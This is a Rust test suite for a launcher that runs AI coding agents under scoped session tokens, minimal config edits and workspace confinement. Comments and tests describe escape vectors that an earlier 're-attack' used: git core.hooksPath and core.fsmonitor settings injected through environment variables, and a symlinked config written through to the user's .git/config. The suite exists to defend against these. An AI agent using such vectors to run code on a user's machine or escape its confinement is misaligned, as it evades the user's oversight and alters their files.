//! Launch sessions and `aileron launch`: session tokens carry only the agent scopes and die when
//! the session ends; each agent's config writer edits a real user config (comments, unrelated
//! entries) by inserting our entry only, and a second run changes nothing; `--dry-run` writes
//! and starts nothing; a fake agent on PATH launched by the real binary sees the right
//! environment, arguments and config, its exit code becomes ours and ends the session.

use std::ffi::OsString;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::Arc;

use aileron::surfaces::launch::{Agent, LaunchEnv, Wiring, plan};
use http::{Request, StatusCode};
use serde_json::{Value, json};

use crate::support::KillOnDrop;
use crate::support::{Harness, PORT};

async fn as_token(harness: &Harness, token: &str, method: &str, path: &str, body: Option<Value>) -> StatusCode {
    let builder = Request::builder()
        .method(method)
        .uri(path)
        .header("host", format!("127.0.0.1:{PORT}"))
        .header("authorization", format!("Bearer {token}"));
    harness.send(builder, body).await.status
}

/// The web console is for the person at the browser: an agent's session token reaches no route
/// the console scope guards, and a console page asked for with it shows the sign-in notice — no
/// data, no control — whatever the page.
#[tokio::test]
async fn a_session_token_reaches_no_console_route_and_no_console_page() {
    use aileron::platform::principal::Scope;
    use aileron::surfaces::daemon::api::{Auth, ROUTES};
    let harness = Harness::new();
    let started = harness.request("POST", "/v1/sessions", Some(json!({"agent": "claude"}))).await;
    let token = started.body["token"].as_str().unwrap().to_string();
    let id = started.body["session_id"].as_str().unwrap().to_string();
    let console_reads: Vec<&str> = ROUTES
        .iter()
        .filter(|r| r.method == "GET" && matches!(r.auth, Auth::Token(Scope::Console)))
        .map(|r| r.path)
        .collect();
    assert!(console_reads.len() >= 8, "{console_reads:?}");
    for path in console_reads {
        let path = path.replace("{id}", &id).replace("{name}", "x");
        assert_eq!(as_token(&harness, &token, "GET", &path, None).await, StatusCode::FORBIDDEN, "GET {path}");
    }
    for (method, path, body) in [
        ("PATCH", "/v1/actions/x".to_string(), json!({"enabled": false})),
        ("POST", "/v1/connectors/remove".to_string(), json!({"reference": "github://a/b@1.0.0"})),
        ("POST", "/v1/vault/unlock".to_string(), json!({"passphrase": "guess"})),
        ("POST", "/v1/vault/lock".to_string(), json!({})),
        ("POST", "/v1/bindings/setup".to_string(), json!({"connector": "github://a/b", "api_key": "k"})),
        ("POST", "/v1/bindings/setup/oauth2/init".to_string(), json!({"connector": "github://a/b", "mode": "daemon"})),
        ("DELETE", "/v1/bindings/x".to_string(), json!({})),
        ("POST", format!("/v1/sessions/{id}/end"), json!({})),
    ] {
        assert_eq!(
            as_token(&harness, &token, method, &path, Some(body)).await,
            StatusCode::FORBIDDEN,
            "{method} {path}"
        );
    }
    assert_eq!(harness.request("GET", &format!("/v1/sessions/{id}"), None).await.body["status"], "active");
    let pages: Vec<&str> = ROUTES.iter().filter(|r| matches!(r.auth, Auth::PageCookie)).map(|r| r.path).collect();
    assert_eq!(pages.len(), 7, "{pages:?}");
    // A record's receipt (it carries the record): refused outright.
    let receipt = Request::builder()
        .method("GET")
        .uri(format!("/activity/receipt/{id}"))
        .header("host", format!("127.0.0.1:{PORT}"))
        .header("authorization", format!("Bearer {token}"));
    assert_eq!(harness.send(receipt, None).await.status, StatusCode::UNAUTHORIZED);
    for page in pages.into_iter().filter(|page| !page.contains('{')) {
        for fragment in [false, true] {
            let mut builder = Request::builder()
                .method("GET")
                .uri(page)
                .header("host", format!("127.0.0.1:{PORT}"))
                .header("authorization", format!("Bearer {token}"));
            if fragment {
                builder = builder.header("x-aileron-fragment", "1");
            }
            let answer = harness.send(builder, None).await;
            let html = answer.body.as_str().unwrap_or_default().to_string();
            if fragment {
                assert_eq!(answer.status, StatusCode::UNAUTHORIZED, "{page} fragment: {html}");
            } else {
                assert_eq!(answer.status, StatusCode::OK, "{page}");
                assert!(html.contains("id=\"signed-out\""), "{page}: {html}");
            }
            for leak in ["data-path", "id=\"content\"", "claude", &id] {
                assert!(!html.contains(leak), "{page} (fragment {fragment}) shows `{leak}` to a session token: {html}");
            }
        }
    }
}

#[tokio::test]
async fn session_tokens_carry_only_agent_scopes_and_die_with_the_session() {
    let harness = Harness::new();
    let started =
        harness.request("POST", "/v1/sessions", Some(json!({"agent": "claude", "pid": std::process::id()}))).await;
    assert_eq!(started.status, StatusCode::CREATED, "{}", started.body);
    assert_eq!(started.body["scopes"], json!(["actions:list", "actions:run", "approvals:poll"]));
    let token = started.body["token"].as_str().unwrap().to_string();
    let id = started.body["session_id"].as_str().unwrap().to_string();

    // (method, path, body, status for the session token)
    let table: Vec<(&str, String, Option<Value>, StatusCode)> = vec![
        ("GET", "/v1/actions".into(), None, StatusCode::OK),
        ("POST", "/v1/actions/nope/run".into(), Some(json!({"args": {}})), StatusCode::NOT_FOUND),
        ("GET", "/v1/action-approvals".into(), None, StatusCode::OK),
        ("POST", "/v1/action-approvals/act-x/decide".into(), Some(json!({"approved": true})), StatusCode::FORBIDDEN),
        ("GET", "/v1/status".into(), None, StatusCode::FORBIDDEN),
        ("GET", "/v1/audit".into(), None, StatusCode::FORBIDDEN),
        ("PATCH", "/v1/actions/nope".into(), Some(json!({"enabled": false})), StatusCode::FORBIDDEN),
        ("POST", "/v1/sessions".into(), Some(json!({"agent": "codex"})), StatusCode::FORBIDDEN),
        ("GET", format!("/v1/sessions/{id}"), None, StatusCode::FORBIDDEN),
        ("POST", format!("/v1/sessions/{id}/end"), Some(json!({"exit_code": 0})), StatusCode::FORBIDDEN),
        ("POST", "/v1/web/login-tickets".into(), None, StatusCode::FORBIDDEN),
    ];
    for (method, path, body, expected) in &table {
        assert_eq!(as_token(&harness, &token, method, path, body.clone()).await, *expected, "{method} {path}");
    }

    let view = harness.request("GET", &format!("/v1/sessions/{id}"), None).await;
    assert_eq!(
        (view.body["status"].as_str(), view.body["agent"].as_str(), view.body["pid"].as_u64()),
        (Some("active"), Some("claude"), Some(u64::from(std::process::id())))
    );
    let ended = harness.request("POST", &format!("/v1/sessions/{id}/end"), Some(json!({"exit_code": 3}))).await;
    assert_eq!(ended.status, StatusCode::OK, "{}", ended.body);
    assert_eq!((ended.body["status"].as_str(), ended.body["exit_code"].as_i64()), (Some("ended"), Some(3)));
    for (method, path, body, _) in &table {
        assert_eq!(
            as_token(&harness, &token, method, path, body.clone()).await,
            StatusCode::UNAUTHORIZED,
            "{method} {path} after the end"
        );
    }
    let again = harness.request("POST", &format!("/v1/sessions/{id}/end"), Some(json!({"exit_code": 0}))).await;
    assert_eq!((again.status, again.body["error"]["code"].as_str()), (StatusCode::CONFLICT, Some("session_ended")));
    let unknown = harness.request("GET", "/v1/sessions/ses-unknown", None).await;
    assert_eq!(
        (unknown.status, unknown.body["error"]["code"].as_str()),
        (StatusCode::NOT_FOUND, Some("session_not_found"))
    );
    let invalid = harness.request("POST", "/v1/sessions", Some(json!({"agent": "../x"}))).await;
    assert_eq!(
        (invalid.status, invalid.body["error"]["code"].as_str()),
        (StatusCode::BAD_REQUEST, Some("invalid_agent"))
    );

    let journal = std::fs::read_to_string(harness.home.sessions_journal()).unwrap();
    let lines: Vec<Value> = journal.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(lines.len(), 2, "{journal}");
    assert_eq!((lines[0]["event"].as_str(), lines[0]["agent"].as_str()), (Some("session.started"), Some("claude")));
    assert_eq!((lines[1]["event"].as_str(), lines[1]["exit_code"].as_i64()), (Some("session.ended"), Some(3)));
    assert!(!journal.contains(&token), "tokens are never journaled");

    let audited: Vec<Value> = harness
        .audit()
        .await
        .into_iter()
        .filter(|r| r["event_type"].as_str().is_some_and(|t| t.starts_with("session.")))
        .collect();
    assert_eq!(audited.len(), 2, "{audited:?}");
    let started = audited.iter().find(|r| r["event_type"] == "session.started").unwrap();
    assert_eq!(started["session_id"], id.as_str());
    assert_eq!(
        started["payload"],
        json!({"aileron.session.agent": "claude", "aileron.session.pid": std::process::id(), "aileron.session.confinement": "unconfined",
               "aileron.session.network": "unconfined",
               "aileron.session.scopes": ["actions:list", "actions:run", "approvals:poll"]})
    );
    let ended = audited.iter().find(|r| r["event_type"] == "session.ended").unwrap();
    assert_eq!(ended["session_id"], id.as_str());
    assert_eq!(ended["payload"], json!({"aileron.session.agent": "claude", "aileron.session.exit_code": 3}));
    assert!(!serde_json::to_string(&audited).unwrap().contains(&token), "tokens are never audited");
}

#[tokio::test]
async fn runs_with_a_session_token_are_audited_as_the_agent_of_that_session() {
    let harness = Harness::new();
    harness.guest_action("echo", &[], "echo", |_| {}).await;
    let started = harness.request("POST", "/v1/sessions", Some(json!({"agent": "codex"}))).await;
    let token = started.body["token"].as_str().unwrap();
    let id = started.body["session_id"].as_str().unwrap();
    let status = as_token(&harness, token, "POST", "/v1/actions/echo/run", Some(json!({"args": {}}))).await;
    assert_eq!(status, StatusCode::OK);
    let executed: Vec<Value> =
        harness.audit().await.into_iter().filter(|r| r["event_type"] == "action.executed").collect();
    assert_eq!(executed.len(), 1);
    assert_eq!((executed[0]["actor"]["type"].as_str(), executed[0]["session_id"].as_str()), (Some("agent"), Some(id)));
}

/// A home directory with each agent's config as a user might have it: comments, other servers,
/// other settings.
struct UserConfigs {
    temp: tempfile::TempDir,
}

const CODEX_CONFIG: &str = "# my codex setup\nmodel = \"gpt-5.1-codex\" # fast one\napproval_policy = \"on-request\"\n\n[mcp_servers.docs]\ncommand = \"npx\"\nargs = [\"-y\", \"docs-mcp\"] # pinned later\n\n[profiles.review]\nmodel = \"o3\"\n";
const OPENCODE_CONFIG: &str = "{\n  // personal config\n  \"$schema\": \"https://opencode.ai/config.json\",\n  \"theme\": \"tokyonight\", /* dark */\n  \"mcp\": {\n    \"sentry\": {\n      \"type\": \"remote\",\n      \"url\": \"https://mcp.sentry.dev/mcp\",\n    },\n  },\n}\n";
const GOOSE_CONFIG: &str = "# goose\nGOOSE_PROVIDER: anthropic\nextensions:\n  developer:\n    bundled: true\n    enabled: true # keep on\n    name: developer\n    type: builtin\n  # web search\n  search:\n    cmd: npx\n    args:\n    - -y\n    - search-mcp\n    enabled: false\n    type: stdio\n\n# models\nGOOSE_MODEL: claude-sonnet-4-5\n";
const PI_CONFIG: &str = "{\n  \"mcpServers\": {\n    \"chrome\": { \"command\": \"npx\", \"args\": [\"-y\", \"chrome-devtools-mcp\"] }\n  }\n}\n";

impl UserConfigs {
    fn new() -> UserConfigs {
        let temp = tempfile::tempdir().unwrap();
        let home = temp.path().join("home");
        for (path, text) in [
            (".codex/config.toml", CODEX_CONFIG),
            (".config/opencode/opencode.json", OPENCODE_CONFIG),
            (".config/goose/config.yaml", GOOSE_CONFIG),
            (".pi/agent/mcp.json", PI_CONFIG),
        ] {
            let path = home.join(path);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, text).unwrap();
        }
        UserConfigs { temp }
    }

    fn home(&self) -> PathBuf {
        self.temp.path().join("home")
    }

    fn env(&self) -> LaunchEnv {
        LaunchEnv {
            vars: Default::default(),
            home_dir: self.home(),
            launch_dir: self.temp.path().join("aileron/launch"),
            account_home: None,
        }
    }
}

fn wiring(token: &str) -> Wiring {
    Wiring {
        daemon_url: "http://127.0.0.1:41234".into(),
        token: token.into(),
        session_id: "ses-0123456789abcdef".into(),
        mcp_command: "/opt/aileron/bin/aileron-mcp".into(),
    }
}

/// The lines of `after` that are not in `before`, asserting that `before`'s lines all survive,
/// unchanged and in order, with the new ones forming one contiguous block.
fn inserted_block(before: &str, after: &str) -> Vec<String> {
    let old: Vec<&str> = before.lines().collect();
    let new: Vec<&str> = after.lines().collect();
    let head = old.iter().zip(&new).take_while(|(a, b)| a == b).count();
    let tail = old[head..].iter().rev().zip(new[head..].iter().rev()).take_while(|(a, b)| a == b).count();
    // An insertion may touch one line of `before` (a comma added after the previous member).
    let touched = old.len() - head - tail;
    assert!(touched <= 1, "more than one existing line changed:\n--- before\n{before}\n--- after\n{after}");
    if touched == 1 {
        let (was, now) = (old[head], new[head]);
        let comma_added = now.char_indices().any(|(i, c)| c == ',' && format!("{}{}", &now[..i], &now[i + 1..]) == was);
        assert!(comma_added, "only a comma may be added to {was:?}, found {now:?}");
        return new[head + 1..new.len() - tail].iter().map(|s| s.to_string()).collect();
    }
    new[head..new.len() - tail].iter().map(|s| s.to_string()).collect()
}

/// Each agent's entry names `aileron-mcp` and how the agent hands it the session's wiring from its
/// own environment (Codex `env_vars`, OpenCode `{env:…}`, Goose `env_keys`, Pi `${…}`), and holds
/// no token, session id or per-launch URL: the next launch, with another session, changes
/// nothing, and no token is ever left in a user's file.
#[test]
fn config_writers_insert_only_our_entry_and_a_second_run_changes_nothing() {
    let configs = UserConfigs::new();
    let env = configs.env();
    // (agent, the config file, a line our entry must contain, how it refers to AILERON_TOKEN)
    let table = [
        (Agent::Codex, ".codex/config.toml", "[mcp_servers.aileron]", "\"AILERON_TOKEN\""),
        (Agent::Opencode, ".config/opencode/opencode.json", "\"aileron\": {", "\"{env:AILERON_TOKEN}\""),
        (Agent::Goose, ".config/goose/config.yaml", "  aileron:", "AILERON_TOKEN"),
        (Agent::Pi, ".pi/agent/mcp.json", "\"aileron\": {", "\"${AILERON_TOKEN}\""),
    ];
    for (agent, file, entry_line, token_reference) in table {
        let path = configs.home().join(file);
        let original = std::fs::read_to_string(&path).unwrap();
        let first = plan(agent, &wiring("token-one"), &env, &[]).unwrap();
        let edit = first.edits.iter().find(|e| e.path == path).unwrap_or_else(|| panic!("{agent:?} edits {file}"));
        assert_eq!(edit.before.as_deref(), Some(original.as_str()));
        let inserted = inserted_block(&original, &edit.after);
        assert!(inserted.iter().any(|line| line.trim() == entry_line.trim()), "{agent:?}: {inserted:#?}");
        for expected in ["/opt/aileron/bin/aileron-mcp", token_reference] {
            assert!(
                inserted.iter().any(|line| line.contains(expected)),
                "{agent:?} entry lacks {expected}: {inserted:#?}"
            );
        }
        for secret in ["token-one", "ses-0123456789abcdef", "http://127.0.0.1:41234"] {
            assert!(!edit.after.contains(secret), "{agent:?}: the user's file never holds {secret}: {inserted:#?}");
        }
        assert_eq!(edit.apply().unwrap(), Some(edit.backup_path()), "{agent:?}: first write backs up");
        assert_eq!(std::fs::read_to_string(edit.backup_path()).unwrap(), original);

        // The next launch is another session with another token and port: nothing to change.
        let mut next_wiring = wiring("token-two");
        next_wiring.daemon_url = "http://127.0.0.1:45678".into();
        next_wiring.session_id = "ses-fedcba9876543210".into();
        let next = plan(agent, &next_wiring, &env, &[]).unwrap();
        let again = next.edits.iter().find(|e| e.path == path).unwrap();
        assert!(!again.changes_anything(), "{agent:?}: a second launch changes nothing");
        assert_eq!(
            std::fs::read_to_string(edit.backup_path()).unwrap(),
            original,
            "{agent:?}: the backup is made once"
        );
    }
}

/// Pi: its providers' base URLs have no environment override, so a one-run extension (`-e`)
/// overrides them with Pi's documented `registerProvider(name, { baseUrl })`; the file is temporary
/// and lives under AILERON_HOME, never under ~/.pi.
#[test]
fn pi_gets_a_one_run_extension_that_points_its_providers_at_the_gateway() {
    let configs = UserConfigs::new();
    let env = configs.env();
    let plan = plan(Agent::Pi, &wiring("token-one"), &env, &[std::ffi::OsString::from("-p"), "hello".into()]).unwrap();
    let extension = plan.edits.iter().find(|e| e.temporary).expect("a temporary extension file");
    assert!(extension.path.starts_with(&env.launch_dir), "{}", extension.path.display());
    assert!(
        extension.after.contains(r#"pi.registerProvider("anthropic", { baseUrl: "http://127.0.0.1:41234" });"#),
        "{}",
        extension.after
    );
    assert!(
        extension.after.contains(r#"pi.registerProvider("openai", { baseUrl: "http://127.0.0.1:41234/v1" });"#),
        "{}",
        extension.after
    );
    assert!(!extension.after.contains("token-one"), "no token in the extension");
    let args: Vec<String> = plan.args.iter().map(|a| a.to_string_lossy().into_owned()).collect();
    assert_eq!(args, ["-e", extension.path.to_str().unwrap(), "-p", "hello"]);
    assert!(!plan.notes.iter().any(|n| n.contains("not through the Aileron gateway")), "{:?}", plan.notes);
    // Without the adapter, the hint says which adapter goes with which Pi.
    let hint = plan.notes.iter().find(|n| n.contains("pi-mcp-adapter")).expect("the adapter hint");
    assert!(hint.contains("pi install npm:pi-mcp-adapter@2.36.0") && hint.contains("@mariozechner"), "{hint}");
}

#[test]
fn claude_gets_a_temporary_mcp_config_and_the_gateway_base_url() {
    let configs = UserConfigs::new();
    let plan =
        plan(Agent::Claude, &wiring("tok"), &configs.env(), &[OsString::from("-p"), OsString::from("hi")]).unwrap();
    let [edit] = plan.edits.as_slice() else { panic!("one file: {:?}", plan.edits) };
    assert!(edit.temporary && edit.before.is_none());
    let config: Value = serde_json::from_str(&edit.after).unwrap();
    // No `env`: the server inherits Claude Code's environment, where the session's wiring is.
    assert_eq!(
        config,
        json!({"mcpServers": {"aileron": {"type": "stdio", "command": "/opt/aileron/bin/aileron-mcp", "args": []}}})
    );
    let expected_args: Vec<OsString> = vec!["-p".into(), "hi".into(), "--mcp-config".into(), edit.path.clone().into()];
    assert_eq!(plan.args, expected_args);
    let env: Vec<(&str, &str)> = plan.env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    assert_eq!(
        env,
        [
            ("AILERON_URL", "http://127.0.0.1:41234"),
            ("AILERON_TOKEN", "tok"),
            ("AILERON_SESSION_ID", "ses-0123456789abcdef"),
            ("ANTHROPIC_BASE_URL", "http://127.0.0.1:41234"),
        ]
    );
}

/// Runs the real `aileron` with a private HOME, AILERON_HOME and `bin` first on PATH.
pub(crate) struct LaunchRig {
    pub(crate) temp: tempfile::TempDir,
}

impl LaunchRig {
    pub(crate) fn new() -> LaunchRig {
        let rig = LaunchRig { temp: tempfile::tempdir().unwrap() };
        std::fs::create_dir_all(rig.bin()).unwrap();
        std::fs::create_dir_all(rig.user_home()).unwrap();
        std::fs::create_dir_all(rig.workspace()).unwrap();
        rig
    }

    /// Where launches start: the agent's workspace, which a confined agent may write.
    pub(crate) fn workspace(&self) -> PathBuf {
        self.temp.path().join("work")
    }

    fn bin(&self) -> PathBuf {
        self.temp.path().join("bin")
    }

    fn user_home(&self) -> PathBuf {
        self.temp.path().join("user")
    }

    pub(crate) fn aileron_home(&self) -> PathBuf {
        self.temp.path().join("aileron")
    }

    fn report(&self) -> PathBuf {
        self.workspace().join("agent-report.txt")
    }

    /// The workspace made a repository with one (empty) commit of the user's, and the user's
    /// `~/.bashrc`: where a launched agent's leftovers would make the user's git write.
    fn committed_workspace(&self) -> (PathBuf, PathBuf) {
        let work = self.workspace();
        let git = |args: &[&str]| Command::new("git").args(args).current_dir(&work).status().unwrap().success();
        assert!(git(&["init", "-q"]));
        assert!(git(&["-c", "user.name=u", "-c", "user.email=u@x", "commit", "-q", "--allow-empty", "-m", "first"]));
        let bashrc = self.user_home().join(".bashrc");
        std::fs::write(&bashrc, "# the user's\n").unwrap();
        (work, bashrc)
    }

    /// A fake agent: records its environment, arguments and config, then exits 3.
    fn fake_agent(&self, name: &str, config_command: &str) {
        let script = format!(
            "#!/bin/sh\n{{\n  echo \"args: $*\"\n  env | grep -E '^(AILERON_|ANTHROPIC_|OPENAI_|OPENCODE_)' | sort\n  echo '--- config'\n  {config_command}\n  echo '--- token'\n  curl -s -o /dev/null -w '%{{http_code}}\\n' -H \"Authorization: Bearer $AILERON_TOKEN\" \"$AILERON_URL/v1/actions\"\n}} > '{}' 2>&1\nexit 3\n",
            self.report().display()
        );
        let path = self.bin().join(name);
        std::fs::write(&path, script).unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    }

    /// `aileron args` in `dir` with the rig's HOME, AILERON_HOME and `bin` first on PATH (then
    /// `extra_path`), none of the test environment's daemon pointers or agent settings, and
    /// `extra_env` last.
    fn command_in(
        &self,
        dir: &Path,
        args: &[&str],
        extra_path: Option<&Path>,
        extra_env: &[(&str, &std::ffi::OsStr)],
    ) -> Output {
        self.command_at(dir, args, extra_path, extra_env).output().expect("running aileron")
    }

    /// The command [`LaunchRig::command_in`] runs.
    pub(crate) fn command_at(
        &self,
        dir: &Path,
        args: &[&str],
        extra_path: Option<&Path>,
        extra_env: &[(&str, &std::ffi::OsStr)],
    ) -> Command {
        let extra_path = extra_path.map(|dir| format!("{}:", dir.display())).unwrap_or_default();
        let path = format!("{}:{extra_path}{}", self.bin().display(), std::env::var("PATH").unwrap_or_default());
        let mut command = Command::new(env!("CARGO_BIN_EXE_aileron"));
        command
            .args(args)
            .current_dir(dir)
            .env("HOME", self.user_home())
            .env("AILERON_HOME", self.aileron_home())
            .env("PATH", path)
            .env_remove("AILERON_AUDIT_DIR")
            .env_remove("AILERON_URL")
            .env_remove("AILERON_TOKEN")
            .env_remove("XDG_CONFIG_HOME")
            .env_remove("CODEX_HOME")
            .env_remove("ANTHROPIC_BASE_URL")
            .env_remove("OPENAI_BASE_URL")
            .stdin(std::process::Stdio::null());
        for (name, value) in extra_env {
            command.env(name, value);
        }
        command
    }

    pub(crate) fn run(&self, args: &[&str], extra_env: &[(&str, &Path)]) -> Output {
        let extra_env: Vec<(&str, &std::ffi::OsStr)> =
            extra_env.iter().map(|(name, value)| (*name, value.as_os_str())).collect();
        self.command_in(&self.workspace(), args, None, &extra_env)
    }

    /// [`LaunchRig::run`] with `extra_dir` on PATH after the rig's own `bin` (the agent then finds
    /// `aileron` there, as it would on a user's machine).
    pub(crate) fn run_with_path(
        &self,
        args: &[&str],
        extra_env: &[(&str, &std::ffi::OsStr)],
        extra_dir: &Path,
    ) -> Output {
        self.command_in(&self.workspace(), args, Some(extra_dir), extra_env)
    }

    /// [`LaunchRig::run`] started in `dir` (the agent's working directory).
    fn run_in(&self, dir: &Path, args: &[&str], extra_env: &[(&str, &std::ffi::OsStr)]) -> Output {
        self.command_in(dir, args, None, extra_env)
    }

    fn daemon(&self) -> Option<Value> {
        let text = std::fs::read_to_string(self.aileron_home().join("daemon.json")).ok()?;
        serde_json::from_str(&text).ok()
    }
}

impl Drop for LaunchRig {
    fn drop(&mut self) {
        let _ = self.run(&["daemon", "stop"], &[]);
    }
}

pub(crate) fn text(output: &Output) -> String {
    format!(
        "stdout:\n{}\nstderr:\n{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    )
}

#[test]
fn dry_run_prints_the_changes_and_writes_and_starts_nothing() {
    let rig = LaunchRig::new();
    let codex_home = rig.user_home().join(".codex");
    std::fs::create_dir_all(&codex_home).unwrap();
    std::fs::write(codex_home.join("config.toml"), CODEX_CONFIG).unwrap();
    rig.fake_agent("codex", "true");
    let output = rig.run(&["launch", "codex", "--dry-run", "--", "exec", "hi there"], &[("CODEX_HOME", &codex_home)]);
    assert!(output.status.success(), "{}", text(&output));
    let stdout = String::from_utf8_lossy(&output.stdout);
    for expected in [
        format!(
            "would run: {} -c 'openai_base_url=\"http://127.0.0.1:<daemon port>/v1\"' exec 'hi there'",
            rig.bin().join("codex").display()
        ),
        format!("--- {}", codex_home.join("config.toml").display()),
        "+[mcp_servers.aileron]".to_string(),
        "+env_vars = [\"AILERON_URL\", \"AILERON_TOKEN\", \"AILERON_SESSION_ID\"]".to_string(),
        "  AILERON_TOKEN=<session token>".to_string(),
        " args = [\"-y\", \"docs-mcp\"] # pinned later".to_string(),
    ] {
        assert!(stdout.lines().any(|line| line == expected), "missing {expected:?} in\n{stdout}");
    }
    assert_eq!(std::fs::read_to_string(codex_home.join("config.toml")).unwrap(), CODEX_CONFIG, "nothing written");
    let mut entries: Vec<_> = std::fs::read_dir(&codex_home).unwrap().map(|e| e.unwrap().file_name()).collect();
    entries.sort();
    assert_eq!(entries, ["config.toml"], "no backup either");
    assert!(rig.daemon().is_none(), "no daemon was started");
    assert!(!rig.aileron_home().join("sessions.jsonl").exists(), "no session was started");
    assert!(!rig.report().exists(), "the agent did not run");
}

/// The launch reads git's config where the user's git does, the environment included
/// (`GIT_CONFIG_GLOBAL`, `GIT_CONFIG_COUNT` pairs: the seventh re-attack, where a global config
/// named by `GIT_CONFIG_GLOBAL` set `core.hooksPath = .githooks` and the agent's hooks there ran
/// at the user's next commit), and a repository with no config has its config watched.
#[test]
fn what_the_environments_git_config_names_is_protected() {
    let rig = LaunchRig::new();
    let work = rig.workspace();
    assert!(std::process::Command::new("git").args(["init", "-q"]).current_dir(&work).status().unwrap().success());
    std::fs::remove_file(work.join(".git/config")).unwrap();
    std::fs::write(work.join("fsmonitor.sh"), "#!/bin/sh\n").unwrap();
    let dotfiles = rig.user_home().join("dotfiles");
    std::fs::create_dir_all(&dotfiles).unwrap();
    std::fs::write(dotfiles.join("gitconfig"), "[core]\n\thooksPath = .githooks\n").unwrap();
    rig.fake_agent("claude", "true");
    let global = dotfiles.join("gitconfig");
    let env: [(&str, &std::ffi::OsStr); 4] = [
        ("GIT_CONFIG_GLOBAL", global.as_os_str()),
        ("GIT_CONFIG_COUNT", "1".as_ref()),
        ("GIT_CONFIG_KEY_0", "core.fsmonitor".as_ref()),
        ("GIT_CONFIG_VALUE_0", "./fsmonitor.sh".as_ref()),
    ];
    let output = rig.command_in(&work, &["launch", "claude", "--dry-run"], None, &env);
    assert!(output.status.success(), "{}", text(&output));
    let stdout = String::from_utf8_lossy(&output.stdout);
    let listed = |prefix: &str, path: &Path| {
        stdout.lines().any(|line| {
            line.strip_prefix(prefix).is_some_and(|paths| paths.split(", ").any(|shown| Path::new(shown) == path))
        })
    };
    let work = std::fs::canonicalize(&work).unwrap();
    assert!(listed("moved aside if the agent creates them: ", &work.join(".githooks")), "{stdout}");
    assert!(listed("moved aside if the agent creates them: ", &work.join(".git/config")), "{stdout}");
    assert!(listed("read-only inside its workspace: ", &work.join("fsmonitor.sh")), "{stdout}");
}

/// A config the launch edits, in the agent's own directory (which a launched agent may write),
/// replaced by a link to a file of the user's: the next launch refuses to write through it, and
/// the user's file is unchanged (the seventh re-attack, where it rewrote the user's
/// `.git/config`). A FIFO there is refused at once instead of holding the launch for good.
#[test]
fn a_config_the_agent_could_have_linked_or_replaced_is_not_written_through() {
    let rig = LaunchRig::new();
    let codex_home = rig.user_home().join(".codex");
    std::fs::create_dir_all(&codex_home).unwrap();
    let users = rig.user_home().join("notes.toml");
    std::fs::write(&users, "title = \"mine\"\n").unwrap();
    std::os::unix::fs::symlink(&users, codex_home.join("config.toml")).unwrap();
    rig.fake_agent("codex", "true");
    let output = rig.run(&["launch", "codex", "--", "exec", "hi"], &[("CODEX_HOME", &codex_home)]);
    let said = text(&output);
    assert!(!output.status.success() && said.contains("reached through a link") && said.contains("hint:"), "{said}");
    assert_eq!(std::fs::read_to_string(&users).unwrap(), "title = \"mine\"\n", "the user's file was written");
    assert!(!codex_home.join("config.toml.aileron-backup").exists(), "a copy of the user's file was left");
    assert!(!rig.report().exists(), "the agent did not run");

    std::fs::remove_file(codex_home.join("config.toml")).unwrap();
    nix::unistd::mkfifo(&codex_home.join("config.toml"), nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
    let mut launch = rig.command_at(
        &rig.workspace(),
        &["launch", "codex", "--", "exec", "hi"],
        None,
        &[("CODEX_HOME", codex_home.as_os_str())],
    );
    let mut child = launch.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped()).spawn().unwrap();
    let started = std::time::Instant::now();
    while child.try_wait().unwrap().is_none() {
        if started.elapsed() > std::time::Duration::from_secs(60) {
            let _ = child.kill();
            panic!("a FIFO as the agent's config held the launch");
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let output = child.wait_with_output().unwrap();
    let said = text(&output);
    assert!(!output.status.success() && said.contains("not a regular file"), "{said}");
}

/// An agent whose config lives in a directory the launch hides from it (here a credential store,
/// `~/.config/gh`) would start without Aileron's tools: refused before anything is written or
/// run, with where to move it; `--expose` of that store lets it through.
#[test]
fn a_registration_the_agent_could_not_read_is_refused() {
    let rig = LaunchRig::new();
    let codex_home = rig.user_home().join(".config/gh/codex");
    std::fs::create_dir_all(&codex_home).unwrap();
    std::fs::write(codex_home.join("config.toml"), CODEX_CONFIG).unwrap();
    rig.fake_agent("codex", "cat \"$CODEX_HOME/config.toml\"");
    let output = rig.run(&["launch", "codex", "--", "exec", "hi"], &[("CODEX_HOME", &codex_home)]);
    let said = text(&output);
    assert_ne!(output.status.code(), Some(3), "the agent did not run\n{said}");
    assert!(said.contains("hidden from the launched agent") && said.contains("--expose"), "{said}");
    assert_eq!(std::fs::read_to_string(codex_home.join("config.toml")).unwrap(), CODEX_CONFIG, "nothing written");
    assert!(!rig.report().exists(), "the agent did not run");
    let gh = rig.user_home().join(".config/gh");
    let exposed = rig.run(
        &["launch", "codex", "--expose", gh.to_str().unwrap(), "--", "exec", "hi"],
        &[("CODEX_HOME", &codex_home)],
    );
    assert_eq!(exposed.status.code(), Some(3), "exposed, the agent runs and reads it\n{}", text(&exposed));
    assert!(std::fs::read_to_string(rig.report()).unwrap().contains("[mcp_servers.aileron]"));
}

#[test]
fn a_launched_agent_gets_its_wiring_and_its_exit_code_ends_the_session() {
    let rig = LaunchRig::new();
    let codex_home = rig.user_home().join(".codex");
    std::fs::create_dir_all(&codex_home).unwrap();
    std::fs::write(codex_home.join("config.toml"), CODEX_CONFIG).unwrap();
    rig.fake_agent("codex", "cat \"$CODEX_HOME/config.toml\"");
    let output =
        rig.run(&["launch", "codex", "--", "exec", "--json", "list my issues"], &[("CODEX_HOME", &codex_home)]);
    assert_eq!(output.status.code(), Some(3), "aileron exits with the agent's code\n{}", text(&output));
    // Nothing said of start-up names kept where nothing is (stop 104 said 24 at every launch).
    assert!(!text(&output).contains("in what the agent may write"), "{}", text(&output));
    let report = std::fs::read_to_string(rig.report()).unwrap();
    let daemon = rig.daemon().expect("launch started the daemon");
    let url = daemon["url"].as_str().unwrap();

    let base_url = format!("args: -c openai_base_url=\"{url}/v1\" exec --json list my issues\n");
    assert!(report.contains(&base_url), "the gateway is codex's base URL for this process only\n{report}");
